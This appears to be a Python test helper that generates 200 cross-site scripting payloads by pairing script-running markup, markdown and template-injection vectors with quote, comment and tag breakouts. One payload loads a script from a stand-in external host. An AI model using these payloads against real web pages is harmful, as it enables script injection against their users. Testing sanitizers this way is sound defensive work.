"""Two hundred ways to put a script into a page, by construction: what would run it, in each of the ways to get there.

Each calls `ran` with its own number. They are short, so that a few fit into one question.
"""

from itertools import product

# What a browser would run, were it markup. {n} is the number of the payload.
VECTORS = (
    "<script>ran({n})</script>",
    "<img src=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<body onload=ran({n})>",
    "<iframe src=javascript:ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<a href=javascript:ran({n})>a</a>",
    "<video><source onerror=ran({n})>",
    "<math href=javascript:ran({n})>m",
    "<object data=javascript:ran({n})>",
    "<form action=javascript:ran({n})>",
    "<style onload=ran({n})></style>",
    "<p style=x:expression(ran({n}))>",
    "<meta http-equiv=refresh content=0;javascript:ran({n})>",
    "<script src=//elders.example/{n}></script>",
    "[a](javascript:ran({n}))",
    '![a](x"onerror="ran({n}))',
    "{{{{constructor.constructor('ran({n})')()}}}}",
    "${{ran({n})}}",
)
# Where it would have to break out of, or what it would have to get past.
WAYS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "--> {0}",
    "</q></p>{0}",
    "</title>{0}",
    "</script>{0}",
    "</textarea>{0}",
    "&lt;b&gt;{0}",
    "$${0}$$",
)


def payloads() -> list[str]:
    """All of them; the place of each in the list is its number."""
    return [way.format(vector.format(n=n)) for n, (way, vector) in enumerate(product(WAYS, VECTORS))]
